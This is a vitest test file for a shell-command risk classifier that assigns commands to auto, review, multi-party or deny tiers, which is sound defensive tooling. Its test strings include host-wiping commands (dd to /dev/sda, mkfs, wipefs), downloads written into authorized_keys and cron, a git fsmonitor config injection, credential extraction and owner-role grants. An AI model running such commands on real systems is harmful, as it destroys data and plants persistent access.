import { beforeAll, describe, expect, it } from 'vitest';
import type { GatehouseRiskEngine } from '../src/index.ts';
import type { Tier } from '../src/types.ts';
import { defaultEngine, rules, shell } from './helpers.ts';

let engine: GatehouseRiskEngine;
beforeAll(async () => {
  engine = await defaultEngine();
});

function cases(tier: Tier, commands: string[]) {
  it.each(commands)(`%s → ${tier}`, (command) => {
    const a = shell(engine, command);
    expect(a.tier, `${rules(a).join(', ')}`).toBe(tier);
  });
}

describe('benign look-alikes stay low', () => {
  cases('auto', [
    'echo "rm -rf /"',
    "grep -r 'DROP TABLE' migrations/",
    'git status',
    'git log --oneline -20',
    'git diff HEAD~1',
    'kubectl get pods -n prod',
    'terraform plan',
    'aws s3 ls',
    'docker ps',
    'cat README.md',
    'cat .env.example',
    'echo aGVsbG8= | base64 -d',
    'sudo systemctl status nginx',
    'kubectl delete --help',
  ]);
  cases('review', ['git push --force-with-lease origin feature/login', 'git push origin feature/login']);
  // Issue 12: on a fresh install builds, test runs and cleanups of build output are review
  // (the tier table); the opt-in coding-workstation profile makes them auto (policy.test.ts).
  cases('review', [
    'rm -rf ./build',
    'rm -rf node_modules dist',
    'npm test',
    'find . -name "*.pyc" -delete',
    "find build -name '*.o' -delete",
    'python -m pytest -q',
    'go test ./internal/product/...',
  ]);
});

describe('destroying the host is out of scope (issue 12, class 2)', () => {
  cases('deny', ['rm -rf /etc', 'dd if=/dev/zero of=/dev/sda', 'mkfs.ext4 /dev/sdb1', 'wipefs -a /dev/sdb']);
});

describe('command knowledge with blast radius', () => {
  cases('multi_party', [
    'git push --force origin main',
    'git push -f',
    'git push origin +main',
    'git push origin --delete release/1.2',
    'git reset --hard HEAD~3',
    'git clean -fdx',
    'git filter-branch --tree-filter "rm -f secrets" HEAD',
    'git branch -D feature/x',
    'rm -rf ~',
    'rm -rf .',
    'shred -u data.db',
    // `find . -type f -delete` deletes every file of the tree, like `rm -rf .` (issue 12, class 8).
    'find . -type f -delete',
    'chmod -R 777 /etc',
    'chown -R nobody /usr',
    'kubectl delete namespace payments',
    'kubectl delete pods --all -n prod',
    'kubectl drain node-1 --ignore-daemonsets',
    'helm uninstall api',
    'terraform destroy',
    'terraform apply -auto-approve',
    'terraform state rm aws_db_instance.main',
    'aws ec2 terminate-instances --instance-ids i-123',
    'aws s3 rm s3://bucket --recursive',
    'aws s3 rb s3://bucket --force',
    'gcloud compute instances delete vm-1',
    'az group delete -n rg-prod',
    'docker system prune -a --volumes',
    'docker volume prune -f',
    'npm publish',
    'cargo publish',
    'twine upload dist/*',
    'dropdb app',
    'redis-cli FLUSHALL',
    'redis-cli -h cache FLUSHDB',
    'reboot',
    'shutdown -h now',
    'systemctl reboot',
  ]);
  cases('review', [
    'kubectl delete pod api-123',
    'kubectl rollout restart deploy/api',
    'terraform apply',
    'docker rm -f web',
    'systemctl restart nginx',
    'git push origin main',
    'curl -X POST https://api.example.com/v1/items -d "{}"',
    'aws s3 rm s3://bucket/one-object.txt',
    'redis-cli DEL session:42',
  ]);
  cases('deny', [
    'aws iam create-user --user-name x',
    'gcloud projects add-iam-policy-binding p --member user:x --role roles/owner',
    'az role assignment create --assignee x --role Owner',
    'kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=mallory',
  ]);
});

describe('where writes land and what really runs', () => {
  cases('deny', [
    'curl -o ~/.ssh/authorized_keys https://x.example/k',
    'wget -O /etc/cron.d/job https://x.example/job',
    'scp host:/tmp/rc ~/.bashrc',
    'aws s3 cp s3://bucket/rc ~/.bashrc',
    'echo "[core] fsmonitor = ./x" >> .git/config',
    'git credential fill',
  ]);
  cases('review', [
    'curl -o /usr/local/bin/tool https://x.example/tool',
    'unzip tools.zip -d /opt',
    'rsync -a build/ /etc/app/',
    "find . -name '*.pyc' -o -name '*.ts' -delete",
    'yarn deploy',
    'pnpm dlx some-tool',
    'npm exec some-tool',
    'npm create vite@latest app',
    'npm install github:someone/pkg',
    "npx -p vitest sh -c 'echo hi'",
    'python3 -m pip install requests',
    'python -m mypkg.cli',
    'uv run tools/fix.py',
    'node scripts/deploy.js',
    './scripts/test.sh',
  ]);
  cases('auto', ['sudo ls -la /root', "ssh bastion 'uptime'"]);

  it('marks deploy-named scripts as not understood as well as deploys', () => {
    expect(rules(shell(engine, './deploy.sh'))).toEqual(
      expect.arrayContaining(['shell.script.run', 'shell.build.deploy-target']),
    );
  });
});

describe('commands output', () => {
  it('lists every parsed command with resolved argv', () => {
    const a = shell(engine, "cd /tmp && r''m -f 'a b' && echo $'\\x41'");
    expect(a.commands.map((c) => [c.name, c.args])).toEqual([
      ['cd', ['/tmp']],
      ['rm', ['-f', 'a b']],
      ['echo', ['A']],
    ]);
  });
});
